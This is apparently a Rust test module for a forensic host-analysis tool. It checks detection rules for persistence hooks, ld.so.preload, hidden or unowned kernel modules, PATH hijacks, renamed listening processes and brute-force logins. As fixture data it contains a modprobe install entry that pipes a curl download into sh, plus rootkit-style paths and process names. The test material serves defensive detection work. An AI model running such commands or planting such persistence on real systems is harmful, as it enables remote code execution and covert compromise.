            [
                "/etc/apt/apt.conf.d/99-apt-fast-update:2",
                "/usr/lib/python3.11/site-packages/dnf-plugins/sneaky.py:4"
            ]
        );
        // None of them is judged as a boot hook as well.
        assert!(subjects("boot-hook-unowned").is_empty());
        let f = |rule: &str| a.findings.iter().find(|f| f.rule == rule).unwrap();
        assert!(
            f("pam-exec-hook")
                .explanation
                .contains("no package owns it")
        );
        assert!(
            f("pam-module-unowned")
                .explanation
                .contains("/etc/pam.d/common-auth:3")
        );
        // The module's evidence includes the service file that loads it.
        assert!(
            f("pam-module-unowned")
                .evidence
                .iter()
                .any(|e| e.member == "raw/etc/pam.d/common-auth")
        );
        assert!(f("pkg-manager-hook").explanation.contains("base64 -d"));
        for rule in [
            "pkg-manager-hook",
            "pam-exec-hook",
            "pam-module-unowned",
            "polkit-rule-unowned",
        ] {
            let h = a.hits.iter().find(|h| h.rule == rule).unwrap();
            let info = crate::rules::CATALOG.iter().find(|r| r.id == rule).unwrap();
            assert_eq!(
                h.mitre,
                info.mitre.iter().map(|m| m.to_string()).collect::<Vec<_>>()
            );
        }
        // Each family alone takes the host to at least Suspicious.
        for (name, hooks) in &families {
            let a = run(hooks.clone());
            assert!(a.score >= 30, "{name}: {} {:?}", a.score, a.hits);
        }
        // pam_exec in a package's unchanged service file is the package's own; in any other
        // service file it is reported, package database or not.
        let a = run(vec![
            hook(
                1,
                "/etc/pam.d/vendor-ok",
                "pam",
                json!({"commands": ["/usr/bin/logger x"]}),
            ),
            hook(
                2,
                "/etc/pam.d/login",
                "pam",
                json!({"commands": ["/usr/bin/logger y"]}),
            ),
        ]);
        let pe: Vec<&str> = a
            .findings
            .iter()
            .filter(|f| f.rule == "pam-exec-hook")
            .map(|f| f.subject.as_str())
            .collect();
        assert_eq!(pe, ["/etc/pam.d/login"]);
    }

    #[test]
    fn kernel_rules() {
        let src = json!({"path": "/proc/modules"});
        let module = |line: usize, name: &str, extra: serde_json::Value| {
            let mut v = json!({"kind": "kernel_module", "name": name, "in_proc_modules": true, "in_sys_module": true, "line": line, "source": src});
            for (k, x) in extra.as_object().unwrap() {
                v[k] = x.clone();
            }
            (line, v)
        };
        let kernel = vec![
            (
                1,
                json!({"kind": "ld_preload", "path": "/etc/ld.so.preload", "entries": ["/usr/lib/x86_64-linux-gnu/libkeyutils.so.9"], "source": {"path": "/etc/ld.so.preload"}}),
            ),
            (
                2,
                json!({"kind": "ld_so_conf", "path": "/etc/ld.so.conf.d/libc.conf", "dirs": ["/usr/local/lib"], "source": {"path": "/etc/ld.so.conf.d/libc.conf"}}),
            ),
            (
                3,
                json!({"kind": "ld_so_conf", "path": "/etc/ld.so.conf.d/x86.conf", "dirs": ["/var/tmp/.l"], "source": {"path": "/etc/ld.so.conf.d/x86.conf"}}),
            ),
            module(
                4,
                "ext4",
                json!({"file": "/lib/modules/6.1/kernel/fs/ext4/ext4.ko"}),
            ),
            module(
                5,
                "nvme_fix",
                json!({"file": "/lib/modules/6.1/updates/nvme_fix.ko", "taint": "OE"}),
            ),
            module(6, "rk", json!({})),
            module(
                7,
                "ghost",
                json!({"in_proc_modules": false, "initstate": "live"}),
            ),
            (
                8,
                json!({"kind": "module_config", "path": "/etc/modprobe.d/b.conf", "purpose": "modprobe", "entries": ["install pcspkr /bin/true", "install usb_storage /bin/sh -c 'curl -fsSL http://x | sh'"], "commands": ["/bin/true", "/bin/sh -c 'curl -fsSL http://x | sh'"], "source": {"path": "/etc/modprobe.d/b.conf"}}),
            ),
        ];
        let packages = vec![
            (
                1,
                json!({"kind": "package", "manager": "dpkg", "name": "linux-image", "version": "1", "source": {"path": "/var/lib/dpkg/status"}}),
            ),
            (
                2,
                json!({"kind": "package_files", "manager": "dpkg", "package": "linux-image", "files": ["/lib/modules/6.1/kernel/fs/ext4/ext4.ko"], "source": {"path": "x"}}),
            ),
            (
                3,
                json!({"kind": "package_verify", "path": "/usr/lib/x86_64-linux-gnu/libkeyutils.so.9", "status": "not_owned", "sha256": "c".repeat(64), "referenced_by": ["ld.so.preload"], "copy": {"path": "/usr/lib/x86_64-linux-gnu/libkeyutils.so.9", "member": "raw/usr/lib/x86_64-linux-gnu/libkeyutils.so.9", "sha256": "c".repeat(64)}}),
            ),
        ];
        let records = [
            ("kernel".to_string(), kernel),
            ("packages".to_string(), packages),
        ]
        .into_iter()
        .collect();
        let mut read = |_: &str, _: u64| Err("none".to_string());
        let mut inp = input(records, &mut read);
        let a = analyze(&mut inp, &AnalysisConfig::default());
        let subjects = |rule: &str| -> Vec<String> {
            a.findings
                .iter()
                .filter(|f| f.rule == rule)
                .map(|f| f.subject.clone())
                .collect()
        };
        assert_eq!(subjects("ld-so-preload"), ["/etc/ld.so.preload"]);
        assert_eq!(
            subjects("ld-so-conf-unusual"),
            ["/etc/ld.so.conf.d/x86.conf: /var/tmp/.l"]
        );
        assert_eq!(subjects("kernel-module-hidden"), ["ghost"]);
        assert_eq!(subjects("kernel-module-unowned"), ["nvme_fix", "rk"]);
        assert_eq!(subjects("modprobe-install-command").len(), 1);
        // IOCs that correlate across hosts: the preloaded library's hash (with its copy as
        // evidence) and the modules' names; the library is no program run (no exec-unowned).
        use dossier_plugin_api::analysis::Ioc;
        let iocs = |rule: &str, subject: &str| -> Vec<Ioc> {
            a.findings
                .iter()
                .find(|f| f.rule == rule && f.subject == subject)
                .unwrap()
                .iocs
                .clone()
        };
        let pre = iocs("ld-so-preload", "/etc/ld.so.preload");
        assert!(pre.contains(&Ioc::Sha256("c".repeat(64))), "{pre:?}");
        assert!(pre.contains(&Ioc::Path(
            "/usr/lib/x86_64-linux-gnu/libkeyutils.so.9".into()
        )));
        assert!(
            a.findings
                .iter()
                .find(|f| f.rule == "ld-so-preload")
                .unwrap()
                .evidence
                .iter()
                .any(|e| e.member == "raw/usr/lib/x86_64-linux-gnu/libkeyutils.so.9")
        );
        assert!(subjects("exec-unowned").is_empty());
        assert!(iocs("kernel-module-unowned", "rk").contains(&Ioc::Path("/sys/module/rk".into())));
        assert!(
            iocs("kernel-module-unowned", "nvme_fix")
                .contains(&Ioc::Path("/lib/modules/6.1/updates/nvme_fix.ko".into()))
        );
        assert!(
            iocs("kernel-module-hidden", "ghost").contains(&Ioc::Path("/sys/module/ghost".into()))
        );

        // Offline: no module records, so the module rules are not evaluated (never clean).
        let kernel = vec![(
            1,
            json!({"kind": "ld_preload", "path": "/etc/ld.so.preload", "entries": [], "source": {"path": "/etc/ld.so.preload"}}),
        )];
        let records = [("kernel".to_string(), kernel)].into_iter().collect();
        let mut read = |_: &str, _: u64| Err("none".to_string());
        let mut inp = input(records, &mut read);
        let a = analyze(&mut inp, &AnalysisConfig::default());
        let ne: Vec<&str> = a.not_evaluated.iter().map(|n| n.rule.as_str()).collect();
        assert!(ne.contains(&"kernel-module-hidden"), "{ne:?}");
        assert!(a.hits.is_empty());
    }

    #[test]
    fn the_collecting_process_is_not_judged() {
        let proc_rec = |pid: u32, own: bool| {
            let mut v = json!({"kind": "process", "pid": pid, "ppid": 1, "state": "S", "comm": "dossier", "argv": ["/tmp/.x/dossier", "collect"], "uid": 0, "euid": 0, "gid": 0, "egid": 0, "kernel_thread": false, "start_ticks": 1, "threads": 1, "exe": "/tmp/.x/dossier"});
            if own {
                v["collector_self"] = json!(true);
            }
            (pid as usize, v)
        };
        for (own, judged) in [(true, false), (false, true)] {
            let records = [("proc".to_string(), vec![proc_rec(4242, own)])]
                .into_iter()
                .collect();
            let mut read = |_: &str, _: u64| Err("none".to_string());
            let mut inp = input(records, &mut read);
            let a = analyze(&mut inp, &AnalysisConfig::default());
            let fired = a.findings.iter().any(|f| f.rule == "exec-unusual-path");
            assert_eq!(fired, judged, "collector_self {own}: {:?}", a.findings);
            assert_eq!(a.executables.is_empty(), own);
        }
    }

    #[test]
    fn path_hijack_rule() {
        let bin = |line: usize, path: &str, owned: bool, shadows: &[&str]| {
            let name = path.rsplit('/').next().unwrap();
            (
                line,
                json!({"kind": "local_bin", "path": path, "name": name, "owned": owned, "shadows": shadows, "sha256": "e".repeat(64), "copy": {"path": path, "member": format!("raw{path}")}}),
            )
        };
        let recs = vec![
            // A trusted tool's name: a hijack whatever it is.
            bin(1, "/usr/local/bin/ls", false, &["/usr/bin/ls"]),
            bin(2, "/usr/local/bin/backup-db", false, &[]),
            bin(3, "/usr/local/bin/git", true, &["/usr/bin/git"]),
            // A script standing in for an untrusted name: a hijack.
            bin(4, "/usr/local/bin/tar", false, &["/usr/bin/tar"]),
            // A locally built program: shadowing, scored low.
            bin(5, "/usr/local/bin/vim", false, &["/usr/bin/vim"]),
            // No copy (too large): the name decides.
            (
                6,
                json!({"kind": "local_bin", "path": "/usr/local/bin/python3", "name": "python3", "owned": false, "shadows": ["/usr/bin/python3"]}),
            ),
        ];
        let packages = vec![(
            1,
            json!({"kind": "package", "manager": "dpkg", "name": "coreutils", "version": "1", "source": {"path": "/var/lib/dpkg/status"}}),
        )];
        let records = [
            ("local-bin".to_string(), recs),
            ("packages".to_string(), packages),
        ]
        .into_iter()
        .collect();
        let mut read = |m: &str, limit: u64| {
            let data: &[u8] = match m {
                "raw/usr/local/bin/tar" => b"#!/bin/sh\n/usr/bin/tar \"$@\" 2>/dev/null\n",
                "raw/usr/local/bin/ls" | "raw/usr/local/bin/vim" => b"\x7fELF\x02\x01\x01",
                _ => return Err("none".to_string()),
            };
            Ok(data[..data.len().min(limit as usize)].to_vec())
        };
        let mut inp = input(records, &mut read);
        let a = analyze(&mut inp, &AnalysisConfig::default());
        let of = |rule: &str| -> Vec<&str> {
            a.findings
                .iter()
                .filter(|f| f.rule == rule)
                .map(|f| f.subject.as_str())
                .collect()
        };
        assert_eq!(
            of("path-hijack"),
            ["/usr/local/bin/ls", "/usr/local/bin/tar"]
        );
        assert_eq!(
            of("path-shadow-unowned"),
            ["/usr/local/bin/python3", "/usr/local/bin/vim"]
        );
        let tar = a
            .findings
            .iter()
            .find(|f| f.subject == "/usr/local/bin/tar")
            .unwrap();
        assert!(
            tar.explanation.contains("a script stands in"),
            "{}",
            tar.explanation
        );
    }

    #[test]
    fn renamed_process_listening_rule() {
        // (pid, comm, argv, exe, extra): each one listens on port 4000 + pid.
        let cases: Vec<(u32, &str, Vec<&str>, &str, serde_json::Value)> = vec![
            // Positives: a copy of python named kworker, python renamed to a kernel thread,
            // a deleted-exe listener, a fileless (memfd) listener, argv[0] of another program.
            (
                44,
                "kworker",
                vec!["kworker"],
                "/var/lib/.cache/kworker",
                json!({}),
            ),
            (
                45,
                "python3",
                vec!["[kworker/0:1]"],
                "/usr/bin/python3.11",
                json!({}),
            ),
            (
                46,
                "updater",
                vec!["/opt/updater"],
                "/opt/updater",
                json!({"exe_deleted": true}),
            ),
            (47, "3", vec!["3"], "/memfd:x", json!({"exe_deleted": true})),
            (
                48,
                "cupsd",
                vec!["cupsd"],
                "/usr/local/lib/.x/backdoor",
                json!({}),
            ),
            // Negatives: process titles, systemd's (sd-pam), interpreters under their
            // versioned names, busybox applets, packaged symlinks, java, /proc/self/exe.
            (
                50,
                "sshd",
                vec!["sshd: alice@pts/0"],
                "/usr/sbin/sshd",
                json!({}),
            ),
            (
                51,
                "nginx",
                vec!["nginx: master process /usr/sbin/nginx -g daemon on;"],
                "/usr/sbin/nginx",
                json!({}),
            ),
            (
                52,
                "postgres",
                vec!["postgres: 15/main: checkpointer "],
                "/usr/lib/postgresql/15/bin/postgres",
                json!({}),
            ),
            (
                53,
                "(sd-pam)",
                vec!["(sd-pam)"],
                "/usr/lib/systemd/systemd",
                json!({}),
            ),
            (
                54,
                "python3",
                vec!["python3", "-m", "http.server"],
                "/usr/bin/python3.11",
                json!({}),
            ),
            (
                55,
                "httpd",
                vec!["httpd", "-f"],
                "/usr/bin/busybox",
                json!({}),
            ),
            (
                56,
                "mysqld",
                vec!["/usr/sbin/mysqld"],
                "/usr/sbin/mariadbd",
                json!({}),
            ),
            (
                57,
                "rsyslogd",
                vec!["/sbin/rsyslogd", "-n"],
                "/usr/sbin/rsyslogd",
                json!({}),
            ),
            (
                58,
                "java",
                vec!["java", "-jar", "app.jar"],
                "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
                json!({}),
            ),
            (
                59,
                "exe",
                vec!["/proc/self/exe", "init"],
                "/usr/bin/runc",
                json!({}),
            ),
            (
                60,
                "sshd",
                vec!["/usr/sbin/sshd", "-D"],
                "/usr/sbin/sshd",
                json!({}),
            ),
        ];
        let src = json!({"path": "/proc/net/tcp"});
        let procs: Vec<(usize, serde_json::Value)> = cases
            .iter()
            .enumerate()
            .map(|(i, (pid, comm, argv, exe, extra))| {
                (i + 1, proc(*pid, comm, argv, exe, extra.clone()))
            })
            .collect();
        let sockets: Vec<(usize, serde_json::Value)> = cases
            .iter()
            .enumerate()
            .map(|(i, (pid, comm, ..))| {
                (
                    i + 1,
                    json!({"kind": "socket", "protocol": "tcp", "local_addr": "0.0.0.0", "local_port": 4000 + pid, "remote_addr": "0.0.0.0", "remote_port": 0, "state": "LISTEN", "listening": true, "inode": pid, "uid": 0, "pids": [pid], "processes": [comm], "source": src}),
                )
            })
            .collect();
        let packages = vec![
            (
                1,
                json!({"kind": "package", "manager": "dpkg", "name": "mariadb-server", "version": "1", "source": {"path": "/var/lib/dpkg/status"}}),
            ),
            (
                2,
                json!({"kind": "package_files", "manager": "dpkg", "package": "mariadb-server", "files": ["/usr/sbin/mysqld", "/usr/sbin/mariadbd"], "source": {"path": "/var/lib/dpkg/info/mariadb-server.list"}}),
            ),
        ];
        let records = [
            ("proc".to_string(), procs),
            ("sockets".to_string(), sockets),
            ("packages".to_string(), packages),
        ]
        .into_iter()
        .collect();
        let mut read = |_: &str, _: u64| Err("no members".to_string());
        let mut inp = input(records, &mut read);
        let a = analyze(&mut inp, &AnalysisConfig::default());
        let subjects = |rule: &str| -> Vec<String> {
            a.findings
                .iter()
                .filter(|f| f.rule == rule)
                .map(|f| f.subject.clone())
                .collect()
        };
        assert_eq!(
            subjects("renamed-process-listening"),
            ["tcp/4044", "tcp/4045", "tcp/4046", "tcp/4047", "tcp/4048"]
        );
        // Same name judgement as process-masquerade (deleted and memfd are this rule's own).
        assert_eq!(
            subjects("process-masquerade"),
            ["pid 44", "pid 45", "pid 48"]
        );
        let f = a
            .findings
            .iter()
            .find(|f| f.rule == "renamed-process-listening" && f.subject == "tcp/4047")
            .unwrap();
        assert!(
            f.explanation.contains("memory-only (fileless)"),
            "{}",
            f.explanation
        );
        use dossier_plugin_api::analysis::Ioc;
        assert!(f.iocs.contains(&Ioc::Port(4047)) && f.iocs.contains(&Ioc::Pid(47)));
        assert!(
            f.evidence
                .iter()
                .any(|e| e.member == "records/sockets.jsonl")
                && f.evidence.iter().any(|e| e.member == "records/proc.jsonl")
        );
        let unusual = a
            .findings
            .iter()
            .find(|f| f.rule == "exec-unusual-path" && f.subject == "/memfd:x")
            .unwrap();
        assert!(
            unusual.explanation.contains("memory-only (fileless)")
                && !unusual.explanation.contains("system binary directory"),
            "{}",
            unusual.explanation
        );
    }

    #[test]
    fn interface_rules() {
        let nic = |line: usize, name: &str, mac: &str, extra: serde_json::Value| {
            let mut v = json!({"kind": "net_interface", "name": name, "mac": mac, "flags_raw": "0x1003", "flags": ["UP", "BROADCAST", "MULTICAST"], "physical": true, "source": {"path": format!("/sys/class/net/{name}")}});
            for (k, x) in extra.as_object().unwrap() {
                v[k] = x.clone();
            }
            (line, v)
        };
        let promisc = json!(["UP", "BROADCAST", "PROMISC", "MULTICAST"]);
        let recs = vec![
            nic(
                1,
                "eth0",
                "00:11:22:33:44:55",
                json!({"flags": promisc, "ipv4": ["192.0.2.7/24"]}),
            ),
            nic(
                2,
                "eth1",
                "00:11:22:33:44:55",
                json!({"perm_mac": "00:11:22:33:44:66"}),
            ),
            nic(
                3,
                "eth2",
                "00:11:22:33:44:77",
                json!({"flags": promisc, "master": "br0"}),
            ),
            nic(
                4,
                "br0",
                "00:11:22:33:44:77",
                json!({"physical": false, "bridge": true}),
            ),
            nic(5, "eth3", "00:11:22:33:44:88", json!({"master": "bond0"})),
            nic(6, "eth4", "00:11:22:33:44:88", json!({"master": "bond0"})),
        ];
        let records = [("netif".to_string(), recs)].into_iter().collect();
        let mut read = |_: &str, _: u64| Err("none".to_string());
        let mut inp = input(records, &mut read);
        let a = analyze(&mut inp, &AnalysisConfig::default());
        let subjects = |rule: &str| -> Vec<String> {
            a.findings
                .iter()
                .filter(|f| f.rule == rule)
                .map(|f| f.subject.clone())
                .collect()
        };
        assert_eq!(subjects("promiscuous-interface"), ["eth0"]);
        let promisc_text = &a
            .findings
            .iter()
            .find(|f| f.rule == "promiscuous-interface")
            .unwrap()
            .explanation;
        assert!(
            promisc_text.contains("(00:11:22:33:44:55, 192.0.2.7/24)"),
            "{promisc_text}"
        );
        assert_eq!(subjects("duplicate-mac"), ["00:11:22:33:44:55"]);
    }

    #[test]
    fn session_rules() {
        let src = json!({"path": "/var/log/btmp"});
        let rec = |i: usize, log: &str, t: &str, user: &str, addr: &str, secs: i64| {
            let time = Timestamp::from_unix(secs, 0).unwrap();
            (
                i + 1,
                json!({"kind": "login", "log": log, "index": i, "entry_type": t, "pid": 1, "line": "pts/0", "user": user, "host": addr, "address": addr, "time": time, "source": src}),
            )
        };
        let mut recs: Vec<(usize, serde_json::Value)> = (0..25)
            .map(|i| {
                rec(
                    i,
                    "btmp",
                    "login_process",
                    "root",
                    "203.0.113.77",
                    1_763_000_000 + i as i64 * 10,
                )
            })
            .collect();
        recs.extend((0..5).map(|i| {
            rec(
                30 + i,
                "btmp",
                "login_process",
                "admin",
                "198.51.100.1",
                1_763_000_000 + i as i64,
            )
        }));
        recs.push(rec(
            40,
            "wtmp",
            "user_process",
            "root",
            "203.0.113.77",
            1_763_000_400,
        ));
        recs.push(rec(
            41,
            "wtmp",
            "user_process",
            "alice",
            "192.0.2.10",
            1_763_000_500,
        ));
        recs.push(rec(
            42,
            "utmp",
            "user_process",
            "LOGIN",
            "203.0.113.77",
            1_763_000_600,
        ));
        recs.push(rec(43, "utmp", "login_process", "LOGIN", "", 1_763_000_600));
        let records = [("sessions".to_string(), recs)].into_iter().collect();
        let mut read = |_: &str, _: u64| Err("none".to_string());
        let mut inp = input(records, &mut read);
        let a = analyze(&mut inp, &AnalysisConfig::default());
        let subjects = |rule: &str| -> Vec<String> {
            a.findings
                .iter()
                .filter(|f| f.rule == rule)
                .map(|f| f.subject.clone())
                .collect()
        };
        assert_eq!(subjects("failed-login-burst"), ["203.0.113.77"]);
        assert_eq!(subjects("bruteforce-then-login"), ["203.0.113.77"]);
        assert_eq!(subjects("odd-login-user"), ["utmp record 42"]);
        assert!(crate::rules::odd_user("ro ot") && !crate::rules::odd_user("alice.b"));
    }
}
